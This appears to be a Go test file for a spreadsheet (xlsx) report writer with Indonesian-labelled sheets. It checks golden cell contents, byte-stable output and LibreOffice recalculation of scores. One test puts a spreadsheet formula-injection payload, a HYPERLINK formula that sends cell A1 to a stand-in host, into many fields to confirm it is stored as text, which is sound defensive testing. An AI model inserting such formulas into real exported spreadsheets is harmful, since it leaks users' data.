package report_test

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"dasheval/checker/report"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"golang.org/x/tools/txtar"
)

// cells writes every cell of a workbook as "Sheet!A1 = value" or "=formula".
func cells(t *testing.T, book []byte) (out string, formulas []string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(book))
	require.NoError(t, err)
	defer f.Close()
	var b strings.Builder
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		for r, row := range rows {
			for c, value := range row {
				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
				require.NoError(t, err)
				formula, err := f.GetCellFormula(sheet, cell)
				require.NoError(t, err)
				if formula != "" {
					formulas = append(formulas, sheet+"!"+cell)
					value += " =" + formula
				}
				if linked, target, err := f.GetCellHyperLink(sheet, cell); err == nil && linked {
					value += " -> " + target
				}
				if value != "" {
					fmt.Fprintf(&b, "%s!%s %s\n", sheet, cell, strconv.Quote(value))
				}
			}
		}
	}
	return b.String(), formulas
}

// TestXLSX holds the workbook to a golden list of its cells, to the same bytes each
// time, and its formulas to the sheets that have some.
func TestXLSX(t *testing.T) {
	each(t, func(t *testing.T, ar *txtar.Archive, in *report.Report) {
		book := written(t, in, "xlsx", "id", report.Options{Base: "../bukti"})
		assert.Equal(t, book, written(t, in, "xlsx", "id", report.Options{Base: "../bukti"}), "the same bytes")
		got, formulas := cells(t, []byte(book))
		golden(t, ar, "want.xlsx.id", got)
		for _, cell := range formulas {
			assert.Regexp(t, `^(Ringkasan|LKE)!`, cell)
		}
	})
}

// TestXLSXTakesNoFormula holds that text that looks like a formula stays text.
func TestXLSXTakesNoFormula(t *testing.T) {
	const evil = `=HYPERLINK("http://x/?"&A1,"y")`
	in := &report.Report{Unit: report.Unit{Name: evil}, Pack: report.Pack{Title: report.Text{ID: evil}},
		Score:     report.Score{Sections: []report.Division{{Code: "A", Title: report.Text{ID: evil}, Weight: 1}}},
		Criteria:  []report.Criterion{{Code: "A.1", Division: "A", Title: report.Text{ID: evil}, Verdict: "met", Weight: 1, Level: report.Level{Shown: `="A"`}, Answers: []report.Answer{{Level: `="A"`, Score: 1}}}},
		Documents: []report.Document{{Path: evil, Facts: map[string]any{"number": evil}}},
		Findings:  []report.Finding{{ID: "x", Document: evil, Quote: evil, Message: "+1"}},
		Decisions: []report.Decision{{Kind: "waiver", State: "used", Reason: evil}}}
	got, formulas := cells(t, []byte(written(t, in, "xlsx", "id", report.Options{})))
	for _, cell := range []string{"Ringkasan!A1", "LKE!G3", "Temuan!H2", "Inventaris!A2", "Pengecualian!G2"} {
		assert.Contains(t, got, cell+" "+strings.TrimSuffix(strconv.Quote(evil), `"`), "it is there, as text")
	}
	for _, cell := range formulas {
		assert.Regexp(t, `^(Ringkasan!B|LKE![OPQ])`, cell)
	}
}

// TestXLSXInLibreOffice lets LibreOffice open and recalculate the workbook of the
// sample: the points are those of the report, an answer that a person corrects
// moves them, and the gates follow.
func TestXLSXInLibreOffice(t *testing.T) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("no LibreOffice")
	}
	in := sample(t)
	dir := t.TempDir()
	recalculated := func(name string, book []byte) *excelize.File {
		file := filepath.Join(dir, name+".xlsx")
		require.NoError(t, os.WriteFile(file, book, 0o600))
		cmd := exec.Command(office, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--convert-to", "ods", "--outdir", dir, file)
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, string(out))
		cmd = exec.Command(office, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", filepath.Join(dir, "out"), filepath.Join(dir, name+".ods"))
		out, err = cmd.CombinedOutput()
		require.NoError(t, err, string(out))
		f, err := excelize.OpenFile(filepath.Join(dir, "out", name+".xlsx"))
		require.NoError(t, err)
		t.Cleanup(func() { _ = f.Close() })
		return f
	}
	number := func(f *excelize.File, label string) float64 {
		rows, err := f.GetRows("Ringkasan", excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		for _, row := range rows {
			if len(row) > 1 && row[0] == label {
				v, err := strconv.ParseFloat(row[1], 64)
				require.NoError(t, err)
				return v
			}
		}
		t.Fatalf("no %s", label)
		return 0
	}
	book := []byte(written(t, in, "xlsx", "id", report.Options{}))
	const total = "Nilai yang sudah terbukti"
	as := recalculated("as", book)
	assert.InDelta(t, in.Score.Low, number(as, total), 0.01)
	for _, sheet := range as.GetSheetList() {
		rows, err := as.GetRows(sheet)
		require.NoError(t, err)
		for _, row := range rows {
			for _, cell := range row {
				assert.NotRegexp(t, `^(#|Err:)`, cell, sheet)
			}
		}
	}

	// Every answer at its best: the instrument's 100 points, but for what numbers give.
	f, err := excelize.OpenReader(bytes.NewReader(book))
	require.NoError(t, err)
	rows, err := f.GetRows("LKE")
	require.NoError(t, err)
	for i, row := range rows {
		if len(row) < 10 {
			continue
		}
		cell := "K" + strconv.Itoa(i+1)
		switch choice := row[9]; {
		case strings.Contains(choice, "/"):
			require.NoError(t, f.SetCellStr("LKE", cell, choice[:strings.Index(choice, "/")]))
		case choice == "%":
			require.NoError(t, f.SetCellFloat("LKE", cell, 1, -1, 64))
		case strings.HasPrefix(choice, "Nilai (0-"):
			require.NoError(t, f.SetCellFloat("LKE", cell, 4, -1, 64))
		}
	}
	var best bytes.Buffer
	require.NoError(t, f.Write(&best))
	full := recalculated("best", best.Bytes())
	assert.InDelta(t, in.Score.Weight, number(full, total), 0.01)
	rows, err = full.GetRows("Ringkasan")
	require.NoError(t, err)
	passed := 0
	for _, row := range rows {
		if len(row) == 5 && row[4] == "tercapai" {
			passed++
		}
	}
	assert.Equal(t, len(in.Gates), passed)
}
